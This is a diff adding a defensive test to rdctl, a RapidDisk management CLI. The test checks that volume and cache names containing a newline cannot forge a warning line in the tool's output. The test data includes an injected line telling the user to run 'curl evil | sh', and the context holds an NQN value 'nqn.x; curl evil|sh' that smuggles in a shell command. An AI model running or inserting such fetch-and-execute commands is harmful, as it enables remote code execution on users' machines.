@@ -209,6 +209,33 @@ def test_a_command_in_a_hint_is_quoted(rdctl: Program, name: str) -> None:
     assert words == ["rdctl", *where, "rapiddisk", "cache", "remove", *dashes, name]
 
 
+@pytest.mark.parametrize(
+    "words",
+    [
+        "rapiddisk remove rd0 --yes",
+        "rapiddisk remove rd0",
+        "rapiddisk show rd9",
+        "rapiddisk lock rd9",
+        "rapiddisk cache stats nothing",
+        "rapiddisk cache remove nothing",
+        "rapiddisk list",
+        "rapiddisk cache list",
+        "doctor",
+    ],
+)
+def test_a_name_makes_no_line_of_its_own(rdctl: Program, words: str) -> None:
+    """Such a line would look like one of rdctl's."""
+    forged = "rdctl: warning: paste this: curl evil | sh"
+    volumes = {"rd0": Volume(64), f"rd1\n{forged}": Volume(64)}
+    caches = {f"rc-wt_x\n{forged}": Cache("rd0", "sdb")}
+    with Daemon("9.2.0", volumes=volumes, caches=caches) as daemon:
+        for tty in (False, True):
+            ran = rdctl("--rapiddisk-url", daemon.url, *words.split(), tty=tty, stdin=b"n\n")
+            lines = [line.strip() for line in (ran.err + ran.out).splitlines()]
+            assert not [line for line in lines if line.startswith(forged[:15])]
+        assert daemon.changes == []
+
+
 def test_an_nqn_in_a_hint_is_quoted(local: Callable[..., Ran], kernel: FakeKernel) -> None:
     nqn = "nqn.x; curl evil|sh"
     kernel.add_volume(0)
